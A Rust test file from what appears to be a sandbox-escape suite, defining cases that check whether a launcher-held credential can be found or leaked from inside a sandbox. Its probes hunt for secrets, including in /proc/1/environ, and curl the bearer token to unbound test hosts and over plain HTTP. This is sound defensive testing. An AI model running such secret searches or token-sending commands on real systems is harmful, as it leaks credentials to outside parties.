//! Escape cases 31–33, credentials: the real secret lives in the launcher's environment (a `from_env` credential
//! bound to one intercepted host); the bottle holds only a placeholder. Values: `token_var` (the credential's
//! variable), `secret` (its real value), `decoy_home_0..4` (secrets in a fake `$HOME`), `host_env` (a variable only
//! the launcher has), `host_file` (a file outside the workspace), `tls_port` and `plain_port` (the test upstreams).

use super::Needs::{DecoyHome, TestUpstreams, Tool};
use super::{Case, probe, shell};

pub const CASES: &[Case] = &[
    shell(
        "ctl-placeholder",
        "case \"${{token_var}}\" in bottle-placeholder-*) exit 0;; esac; exit 1",
    )
    .control(),
    shell(
        "ctl-inject",
        "curl -sS --fail --max-time 20 -H \"authorization: Bearer ${{token_var}}\" \
         https://upstream.test:{{tls_port}}/inject",
    )
    .control()
    .needs(&[TestUpstreams, Tool("curl")]),
    // 31: search for the real values
    probe("c31-real-secret", &["find-secret", "{{hex:secret}}"]),
    probe("c31-init-environ", &["read-file", "/proc/1/environ", "{{hex:secret}}"]),
    probe("c31-decoy-0", &["find-secret", "{{hex:decoy_home_0}}"]).needs(&[DecoyHome]),
    probe("c31-decoy-1", &["find-secret", "{{hex:decoy_home_1}}"]).needs(&[DecoyHome]),
    probe("c31-decoy-2", &["find-secret", "{{hex:decoy_home_2}}"]).needs(&[DecoyHome]),
    probe("c31-decoy-3", &["find-secret", "{{hex:decoy_home_3}}"]).needs(&[DecoyHome]),
    probe("c31-decoy-4", &["find-secret", "{{hex:decoy_home_4}}"]).needs(&[DecoyHome]),
    probe("c31-decoy-5", &["find-secret", "{{hex:host_env}}"]),
    probe("c31-decoy-6", &["find-secret", "{{hex:host_file}}"]),
    // 32: the placeholder to a host it is not bound to
    shell(
        "c32-other-host-header",
        "curl -sS --fail --max-time 20 -H \"authorization: Bearer ${{token_var}}\" \
         https://other.test:{{tls_port}}/c32-header",
    )
    .needs(&[TestUpstreams, Tool("curl")]),
    shell(
        "c32-other-host-query",
        "curl -sS --fail --max-time 20 \"https://other.test:{{tls_port}}/c32-query?token=${{token_var}}\"",
    )
    .needs(&[TestUpstreams, Tool("curl")]),
    shell(
        "c32-bound-host-wrong-header",
        "curl -sS --fail --max-time 20 -H \"x-api-key: ${{token_var}}\" \
         https://upstream.test:{{tls_port}}/c32-wrong-header",
    )
    .needs(&[TestUpstreams, Tool("curl")]),
    // 33: the placeholder over plain HTTP, to another host and to the bound host's name
    shell(
        "c33-plain-other",
        "curl -sS --fail --max-time 20 -H \"authorization: Bearer ${{token_var}}\" \
         http://plain.test:{{plain_port}}/c33-plain",
    )
    .needs(&[TestUpstreams, Tool("curl")]),
    shell(
        "c33-plain-bound-name",
        "curl -sS --fail --max-time 20 -H \"authorization: Bearer ${{token_var}}\" \
         http://upstream.test:{{plain_port}}/c33-bound",
    )
    .needs(&[TestUpstreams, Tool("curl")]),
];
